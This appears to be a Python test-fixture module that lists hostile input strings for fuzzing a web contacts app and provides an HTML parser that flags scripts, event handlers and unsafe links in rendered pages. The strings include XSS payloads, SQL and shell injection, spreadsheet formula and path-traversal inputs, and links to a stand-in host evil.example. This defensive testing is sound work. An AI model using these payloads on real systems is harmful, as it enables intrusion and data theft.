"""Text that breaks programs which trust it, and a reader that finds what it broke.

Whatever would do something if a page let it carries the word `PWNED`, so that no test mistakes our own
markup for an attack, nor the other way round.
"""

from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

MARK: Final = "PWNED"

MARKUP: Final = (
    "<script>alert('PWNED')</script>",
    "</script><script>alert('PWNED')</script>",
    "<ScRiPt>alert('PWNED')</sCrIpT>",
    '"><script>alert("PWNED")</script>',
    "'><img src=x onerror=alert('PWNED')>",
    '" onmouseover="alert(\'PWNED\')" x="',
    "' onfocus='alert(1)' autofocus='PWNED",
    "` onclick=alert(`PWNED`) `",
    "<img src=x onerror=alert('PWNED')>",
    "<svg/onload=alert('PWNED')>",
    "<svg><style>@import '//evil.example/PWNED'</style>",
    "<iframe srcdoc='<script>alert(`PWNED`)</script>'></iframe>",
    "<object data=javascript:alert('PWNED')></object>",
    "<base href='//evil.example/PWNED/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/PWNED'>",
    "<form action=//evil.example/PWNED><input name=q><button>go",
    "</textarea><script>alert('PWNED')</script><textarea>",
    "</title><script>alert('PWNED')</script>",
    "</option></select><img src=x onerror=alert('PWNED')>",
    "<!-- PWNED --><!--[if IE]><b>PWNED",
    "<![CDATA[ PWNED ]]>",
    "<a href=\"javascript:alert('PWNED')\">here</a>",
    "<div hx-get='/contacts/' hx-trigger=load hx-on:load=alert('PWNED')>PWNED</div>",
    "<div style='position:fixed;inset:0;background:red'>PWNED</div>",
    "<details open ontoggle=alert('PWNED')>",
    "&lt;script&gt;alert('PWNED')&lt;/script&gt;",
    "&#x3C;script&#x3E;PWNED",
    "&amp;quot;PWNED&nbsp;&NoSuchEntity;",
    "＜script＞alert('PWNED')＜/script＞",
    "%3Cscript%3Ealert('PWNED')%3C/script%3E",
)
ADDRESSES: Final = (
    "javascript:alert('PWNED')",
    " JaVaScRiPt:alert('PWNED')",
    "java\tscript:alert('PWNED')",
    "data:text/html,<script>alert('PWNED')</script>",
    "vbscript:msgbox('PWNED')",
    "//evil.example/PWNED",
    "https://linkedin.com@evil.example/in/PWNED",
    "[PWNED](javascript:alert%281%29)",
    "![PWNED](http://evil.example/PWNED.png)",
    "<javascript:alert('PWNED')>",
)
TEMPLATES: Final = (
    "{{ 6151|add:12302 }}",
    "{{6151*3}}",
    "{% load static %}{% debug %}",
    "{% include 'infoint/safe.html' %}",
    "${6151*3} #{6151*3} <%= 6151*3 %>",
    "%s %d %(name)s %n {0} {name!r}",
)
COMPUTED: Final = "18453"  # what a template would make of the sums above
SCRIPTS: Final = (
    "José Zoë Łęcki Åse",
    "José decomposed",
    "محمد الأحمد",
    "שרה לוי",
    "王小明 さくら 지훈",
    "ÇAĞRI ıİ ſß",
    "नमस्ते ไทย မြန်မာ",
    "👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈🇳🇿",
    "𝕿𝖍𝖊 𝓺𝓾𝓲𝓬𝓴 🎉",
    "Ｆｕｌｌ ｗｉｄｔｈ",
)
INVISIBLE: Final = (
    "\u202eevil\u202c gpj.exe",
    "\u2066isolated\u2069 \u2067never closed",
    "zero\u200bwidth\u200djoiner\u2060\ufeff",
    "soft\u00adhyphen non\u00a0breaking",
    "Z" + "\u0301" * 100 + "algo",
    "\u0007bell \u001b[31mred\u001b[0m \u007f",
    "line\u2028separator\u2029paragraph\u0085next",
    "a\tb\u000bc\u000cd",
    "\ufffe\uffff\U0010ffff noncharacters",
    "\U000e0001\U000e0041 tags",
)
COMMANDS: Final = (
    "'; DROP TABLE contacts_contact; --",
    "1 OR 1=1 UNION SELECT key FROM auth_user",
    'Robert"); DELETE FROM contacts_note; --',
    "a\\' OR ''='",
    '=HYPERLINK("http://evil.example","PWNED")',
    "+1-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "$(touch PWNED) `id` && ls | cat",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    '{"first_name": "x", "$ne": null, "__proto__": {"PWNED": 1}}',
    '[1,2,{"a":"</script>PWNED"}]',
    "a\r\nSet-Cookie: PWNED=1\r\n\r\n<b>PWNED</b>",
    "two\nlines",
    'AT&T c++ o\'brien "quoted" NEAR( * col:x -x OR',
    "null",
    "None",
    "undefined",
    "NaN",
    "0",
    "-1",
    "1e309",
    "CON",
    "\\",
    "'",
    '"',
    "&",
    "<",
    "*",
    "%",
    "_",
)
ENDLESS: Final = ("W" * 290, "a " * 140 + "b", "ش" * 290, "<" * 290, "😀" * 145)
STRINGS: Final = (*MARKUP, *ADDRESSES, *TEMPLATES, *SCRIPTS, *INVISIBLE, *COMMANDS, *ENDLESS)
NUL: Final = "be\0fore"

# Values for what is no text: numbers, dates, ids, choices, ticks.
ODD: Final = (
    "",
    " ",
    "0",
    "-1",
    "6",
    "NaN",
    "1e9",
    "9223372036854775807",
    "9223372036854775808",
    str(10**30),
    "9" * 5000,
    "٣",
    "0001-01-01",
    "9999-12-31",
    "2024-02-30",
    "\0",
    "\ufffd",
    "trash:",
    "circle-add:" + str(10**30),
    "<script>alert('PWNED')</script>",
    "00000000-0000-0000-0000-000000000000",
)


class Reader(HTMLParser):
    """Read a page as a browser does, and note whatever in it could run, load or send something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "script" and "src" not in given and given.get("type") != "application/json":
            self.found.append(f"<{tag}> without src")
        if tag in {"iframe", "object", "embed", "base", "applet", "frame"}:
            self.found.append(f"<{tag}>")
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in given.items():
            if name.startswith("on") or name in {"srcdoc", "style"}:
                self.found.append(f"<{tag} {name}={value!r}>")
            if name.startswith("hx-") and MARK in value and name not in {"hx-headers", "hx-vals"}:
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in {"href", "src", "action", "formaction", "data", "poster"} and not harmless(value, tag):
                self.found.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def harmless(address: str, tag: str) -> bool:
    """Return whether an address stays here, or is a plain link that only a click follows."""
    scheme = urlsplit(address.strip()).scheme.lower()
    if tag == "a" and scheme in {"http", "https", "mailto", "tel", "webcal"}:
        return True
    if tag in {"img", "link"} and address.startswith("data:image/"):
        return True
    return not scheme and not address.strip().replace("\\", "/").startswith("//")


def active_parts(html: str) -> list[str]:
    """Return what in a page could run, load or send something that we did not put there."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found
